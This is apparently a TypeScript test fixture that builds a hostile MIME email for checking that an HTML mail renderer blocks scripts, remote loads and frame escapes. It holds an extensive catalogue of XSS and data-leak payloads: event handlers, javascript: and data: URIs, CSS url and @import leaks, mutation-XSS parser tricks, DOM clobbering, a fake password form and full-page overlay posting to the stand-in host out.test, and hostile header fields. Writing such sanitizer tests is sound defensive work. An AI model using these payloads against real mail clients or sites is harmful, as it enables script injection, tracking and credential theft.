/** A red square of 64 by 64 pixels. */
const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAEAAAABACAIAAAAlC+aJAAAAT0lEQVR42u3PQQkAAAgEsMty/aMYygi+hcEKLNO+FgEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQGBywLaHgEAEE9tsQAAAABJRU5ErkJggg==";
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="hit()"><script>hit()</script><image href="http://out.test/svg-part.png"/></svg>';

/**
 * A page of what mail uses to run code, to call home and to leave its frame. `hit()` is what the browser test watches for,
 * `http://out.test/` what must never be asked for; the words KEEP-1 to KEEP-7 and the picture cid:logo must be seen.
 */
const HTML = `<!DOCTYPE html>
<html lang="en" manifest="http://out.test/manifest" onclick="hit()">
<head>
<base href="http://out.test/base/" target="_top">
<meta http-equiv="refresh" content="0; url=http://out.test/refresh">
<meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="http://out.test/style.css"><link rel="preload" as="image" href="http://out.test/preload.png">
<link rel="dns-prefetch" href="//dns.out.test/"><link rel="preconnect" href="http://pre.out.test/">
<link rel="prefetch" href="http://out.test/prefetch"><link rel="icon" href="http://out.test/icon.ico">
<title>x</title></head><script>hit()</script>
<style>
@import "http://out.test/import.css"; @import url(http://out.test/import2.css);
@\\69mport "http://out.test/import3.css";
@font-face { font-family: F; src: url(http://out.test/font.woff2) }
@charset "utf-7"; @namespace svg url(http://out.test/ns);
body { background: url("http://out.test/body.png"); font-family: F; color: #123456 }
p { background-image: u\\72l(http://out.test/escaped.png); list-style: url('http://out.test/list.png') }
p::before { content: url(http://out.test/content.png) } p { cursor: url(http://out.test/cursor.cur), auto }
div { behavior: url(http://out.test/behavior.htc); -moz-binding: url(http://out.test/xbl#x); width: expression(hit()) }
@media screen { p { border-image: image-set("http://out.test/set.png" 1x) } }
input[value^="a"] { background: url(http://out.test/leak-a) }
:root { --x: url(http://out.test/variable.png); background: var(--x) }
#cover { position: fixed; inset: 0; z-index: 99999; background: #fff }
</style><img src="x" onerror="hit()">
</style>
</head>
<body onload="hit()" onpageshow="hit()" background="http://out.test/background.gif" bgcolor="#ffffee" link="javascript:hit()">
<h1>KEEP-1 An invoice</h1>
<p>KEEP-2 <img src="cid:logo" width="64" height="64" alt="logo" onload="hit()"> <b>bold</b> <a href="https://out.test/pay">pay</a></p>
<img src="cid:vector" alt="svg"><img src="cid:fake" alt="svg as png"><img src="cid:page" alt="html as png">
<img src="http://out.test/located.png" alt="located"><img src="CID:logo%22%20onerror=hit()" alt="cid">
<img src="http://out.test/pixel.gif" width="1" height="1"><img srcset="http://out.test/1x.png 1x, http://out.test/2x.png 2x">
<picture><source srcset="http://out.test/source.webp" type="image/webp"><img src="//out.test/scheme.png"></picture>
<img src="&#104;ttp://out.test/entity.png"><img src="htt&#10;p://out.test/newline.png"><img src="\\\\out.test\\unc.png">
<img lowsrc="http://out.test/low.png" dynsrc="http://out.test/dyn.avi" longdesc="http://out.test/long">
<input type="image" src="http://out.test/input.png"><video src="http://out.test/v.mp4" poster="http://out.test/poster.png" autoplay></video>
<audio src="http://out.test/a.mp3" autoplay></audio><video><source src="http://out.test/s.mp4"><track default src="http://out.test/t.vtt"></video>
<table background="http://out.test/table.png"><tr><td background="http://out.test/cell.png">KEEP-3</td></tr></table>
<div style="background:url(http://out.test/inline.png);background:url(&quot;http://out.test/quoted.png&quot;)">KEEP-4</div>
<div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">&nbsp;</div>
<form action="http://out.test/form" method="post" onsubmit="hit()"><input name="password" type="password" autofocus onfocus="hit()">
<button formaction="javascript:hit()">Sign in</button><input type="submit" form="f"></form><isindex action="javascript:hit()">
<iframe src="http://out.test/frame"></iframe><iframe srcdoc="<script>parent.hit()</script><img src=http://out.test/srcdoc.png>"></iframe>
<object data="http://out.test/object.swf"><param name="movie" value="http://out.test/param.swf"><embed src="http://out.test/embed"></object>
<applet code="x" codebase="http://out.test/applet"></applet><frameset onload="hit()"><frame src="http://out.test/f"></frameset>
<a id="js" href="javascript:hit()">KEEP-5</a> <a href="java&#9;script:hit()">tab</a> <a href=" &#1;javascript:hit()">control</a>
<a href="data:text/html,<script>hit()</script>">data</a> <a href="vbscript:hit()">vb</a> <a href="blob:http://out.test/x">blob</a>
<a href="cid:page">part</a> <a href="file:///etc/passwd">file</a> <a ping="http://out.test/ping" href="https://out.test/p">ping</a>
<map name="m"><area shape="rect" coords="0,0,64,64" href="javascript:hit()"></map><img usemap="#m" src="cid:logo" alt="map">
<svg onload="hit()"><script>hit()</script><image href="http://out.test/svg.png"/><use href="http://out.test/use.svg#a"/>
<animate attributeName="href" values="javascript:hit()"/><foreignObject><iframe src="javascript:parent.hit()"></iframe></foreignObject>
<a xlink:href="javascript:hit()"><text>svg link</text></a><style>@import "http://out.test/svg.css"</style><set onbegin="hit()"/></svg>
<math href="javascript:hit()"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;"></table></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()></style></mglyph></form></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=hit()>"></svg>
<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript><noembed><img src="</noembed><img src=x onerror=hit()>"></noembed>
<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea><xmp><p title="</xmp><img src=x onerror=hit()>"></xmp>
<template><script>hit()</script><img src=x onerror=hit()></template><select><template><script>hit()</script></template></select>
<div data-bind="hit()" x-on:click="hit()" @click="hit()" ng-app ng-csp></div><details open ontoggle="hit()"><summary>KEEP-6</summary>more</details>
<marquee onstart="hit()">x</marquee><dialog open onclose="hit()">d</dialog><p style="animation:a 1s" onanimationstart="hit()">x</p>
<img name="getElementById"><form id="document"></form><a id="defaultView"></a><p id="hits">clobbering</p>
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><img src="http://out.test/mso.png"><![endif]--><![if !mso]><p>KEEP-7</p><![endif]>
<?xml-stylesheet href="http://out.test/pi.css"?><!ENTITY x SYSTEM "http://out.test/dtd"><plaintext><script>hit()</script>`;

/** The body, as base64 in lines. */
function base64(text: string): string[] {
  return (
    Buffer.from(text)
      .toString("base64")
      .match(/.{1,76}/g) ?? []
  );
}

function picture(headers: readonly string[], content: readonly string[]): string[] {
  return ["--r", ...headers, "Content-Transfer-Encoding: base64", "", ...content];
}

/** The mail around it: hostile names in every field that a page shows, and a message inside with a picture of the same name. */
export function buildHostileMail(): Uint8Array {
  const lines = [
    'From: "</td><script>hit()</script>" <a@out.test>',
    "To: <img/src=x/onerror=hit()>@out.test, b@out.test",
    "Date: Sat, 03 Feb 2024 11:12:13 +0100",
    "Message-ID: <1@out.test>",
    "Subject: </title><script>hit()</script><img src=http://out.test/subject.png>",
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=m",
    "",
    "--m",
    "Content-Type: multipart/related; boundary=r",
    "",
    "--r",
    "Content-Type: text/html; charset=utf-8",
    "Content-Location: http://out.test/mail.html",
    "Content-Transfer-Encoding: base64",
    "",
    ...base64(HTML),
    ...picture(["Content-Type: image/png", "Content-ID: <logo>"], [PNG]),
    ...picture(["Content-Type: image/svg+xml", "Content-ID: <vector>"], base64(SVG)),
    ...picture(["Content-Type: image/png", "Content-ID: <fake>"], base64(SVG)),
    ...picture(["Content-Type: image/png", "Content-ID: <page>"], base64("<script>parent.hit()</script>")),
    ...picture(["Content-Type: image/png", "Content-Location: http://out.test/located.png"], [PNG]),
    "--r--",
    "--m",
    "Content-Type: text/plain; charset=utf-8",
    "",
    "<script>hit()</script> <img src=http://out.test/plain.png> javascript:hit() http://out.test/plain",
    "--m",
    "Content-Type: text/html",
    'Content-Disposition: attachment; filename="\\"><img src=x onerror=hit()>.html"',
    "",
    "<script>hit()</script>",
    "--m",
    "Content-Type: message/rfc822",
    "",
    "Subject: <svg onload=hit()>",
    "Content-Type: text/html",
    "",
    '<p>KEEP-8</p><img src="cid:logo" alt="of the outer message"><img src=x onerror=hit()><script>hit()</script>',
    "--m--",
    "",
  ];
  return Buffer.from(lines.join("\r\n"), "utf8");
}
